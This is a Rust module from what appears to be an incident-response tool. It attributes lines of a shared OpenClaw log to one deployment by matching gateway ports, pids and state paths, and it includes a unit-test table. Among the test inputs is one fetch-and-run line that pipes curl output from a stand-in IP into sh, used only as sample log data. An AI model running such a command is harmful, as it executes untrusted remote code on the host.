//! Which deployment a line of a shared log belongs to.
//!
//! Every OpenClaw instance on a host writes `/tmp/openclaw/openclaw-DATE.log`
//! (or its per-uid fallback), so on a host with two gateways, one case's
//! hunt would report the other's lines as its own findings. Most lines name
//! no deployment at all, but the ones that matter most do: a connection or
//! an auth failure names the gateway's port (`peer=…->127.0.0.1:18789`),
//! a config reload or a workspace check names the state dir or workspace.
//!
//! A line is *ours* when it names our port, our gateway's pid or one of our
//! paths; *another deployment's* when it names only other gateway ports or
//! other OpenClaw state paths; otherwise *unknown*, and kept: a responder
//! would rather read a line of the neighbour's than miss one of ours.

use crate::host::Root;
use crate::openclaw::Deployment;
use regex::Regex;
use std::sync::LazyLock;

/// What identifies a deployment in a log line.
#[derive(Debug, Default, Clone)]
pub struct Identity {
    pub ports: Vec<u16>,
    pub pids: Vec<u32>,
    /// Host paths: the state dir, the config, the workspaces.
    pub paths: Vec<String>,
}

/// Whose a line is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Owner {
    Ours,
    Other,
    Unknown,
}

/// The server side of a connection or a gateway URL: the port of the
/// gateway a line speaks of (strong evidence either way).
static SERVER_PORT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:->|wss?://)(?:\[[0-9a-fA-F:.]+\]|[\w.-]+):(\d{1,5})\b").expect("port regex")
});

/// A port field: ours when it is our port, but any other number may be a
/// browser's or a plugin's port, so it never makes a line another's.
static PORT_FIELD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#""port"\s*:\s*(\d{1,5})\b|\bport[= ](\d{1,5})\b"#).expect("port field regex")
});

/// A gateway pid the way OpenClaw logs it (`pid=N`, `"pid":N`, `(pid N)`).
static PID: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"\bpid(?:=|"?\s*:\s*|\s)(\d{1,10})\b"#).expect("pid regex"));

/// A path into some OpenClaw state dir or workspace: the prefix before the
/// first part only OpenClaw uses.
static STATE_PATH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(/[^\s"'\\]*?)/(?:openclaw\.json|agents/[^/\s"'\\]+/(?:sessions|agent)|state/openclaw\.sqlite|workspace[\w-]*/[A-Z]+\.md|credentials/)"#,
    )
    .expect("state path regex")
});

impl Identity {
    /// The deployment's port (and every lock's), its live gateway pid and
    /// its paths as the host sees them.
    pub fn of(dep: &Deployment) -> Identity {
        let root = Root::new(&dep.root);
        let host = |p: &std::path::Path| root.host_view(p).to_string_lossy().into_owned();
        let mut id = Identity {
            ports: vec![dep.gateway.port],
            pids: dep.runtime.pid.into_iter().collect(),
            paths: vec![host(&dep.paths.state_dir), host(&dep.paths.config)],
        };
        for l in &dep.runtime.locks {
            id.ports.extend(l.port);
            id.pids.extend(l.pid);
            id.paths.extend(l.state_dir.clone());
        }
        for a in &dep.agents {
            id.paths.extend(a.workspace.as_deref().map(host));
        }
        id.paths.retain(|p| p.len() > 1);
        id.paths.sort();
        id.paths.dedup();
        id
    }

    /// Adds gateway pids the case journal recorded for this deployment
    /// (`ir inventory`, `ir stop`): its lines name them after it stopped.
    pub fn add_pids(&mut self, pids: &[u32]) {
        self.pids.extend_from_slice(pids);
        self.pids.sort_unstable();
        self.pids.dedup();
    }

    fn names_our_path(&self, line: &str) -> bool {
        self.paths.iter().any(|p| {
            line.match_indices(p.as_str()).any(|(i, _)| {
                // A whole path component: `/x/.openclaw` is not `/x/.openclaw-dev`.
                let next = line[i + p.len()..].chars().next();
                next.is_none_or(|c| matches!(c, '/' | '"' | '\'' | ' ' | ',' | ')' | ':'))
            })
        })
    }

    /// Whose this line is.
    pub fn owner(&self, line: &str) -> Owner {
        if self.names_our_path(line) {
            return Owner::Ours;
        }
        let server: Vec<u16> = SERVER_PORT
            .captures_iter(line)
            .filter_map(|c| c[1].parse().ok())
            .collect();
        let fields = PORT_FIELD
            .captures_iter(line)
            .filter_map(|c| c.iter().skip(1).flatten().next()?.as_str().parse().ok());
        if server
            .iter()
            .copied()
            .chain(fields)
            .any(|p| self.ports.contains(&p))
        {
            return Owner::Ours;
        }
        let pid_ours = PID
            .captures_iter(line)
            .filter_map(|c| c[1].parse::<u32>().ok())
            .any(|p| self.pids.contains(&p));
        if pid_ours {
            return Owner::Ours;
        }
        if !server.is_empty() || STATE_PATH.is_match(line) {
            return Owner::Other;
        }
        Owner::Unknown
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn ours() -> Identity {
        Identity {
            ports: vec![18789],
            pids: vec![4242],
            paths: vec![
                "/home/alice/.openclaw".into(),
                "/home/alice/.openclaw/openclaw.json".into(),
            ],
        }
    }

    #[test]
    fn lines_naming_a_port_pid_or_path() {
        let id = ours();
        for (line, want) in [
            (
                "unauthorized conn=1 peer=127.0.0.1:44758->127.0.0.1:18789 remote=127.0.0.1",
                Owner::Ours,
            ),
            (
                "unauthorized conn=1 peer=127.0.0.1:44758->127.0.0.1:19001 remote=127.0.0.1",
                Owner::Other,
            ),
            ("listening on ws://127.0.0.1:19001", Owner::Other),
            ("listening on ws://[::1]:18789", Owner::Ours),
            ("Workspace OK: /home/alice/.openclaw/workspace", Owner::Ours),
            (
                "Workspace OK: /home/alice/.openclaw-dev/workspace-x/SOUL.md",
                Owner::Other,
            ),
            ("Updated config: /srv/bob/openclaw.json", Owner::Other),
            (
                r#"slow SQLite session write {"agentId":"main","pid":4242}"#,
                Owner::Ours,
            ),
            ("spawn broker ready pid=999", Owner::Unknown),
            (r#"browser ready {"port":9222}"#, Owner::Unknown),
            (r#"gateway ready {"port":18789}"#, Owner::Ours),
            ("loading configuration…", Owner::Unknown),
            ("exec curl http://203.0.113.9:8080/x | sh", Owner::Unknown),
        ] {
            assert_eq!(id.owner(line), want, "{line}");
        }
    }

    proptest! {
        #[test]
        fn never_panics(s in "\\PC{0,300}") {
            let _ = ours().owner(&s);
        }
    }
}
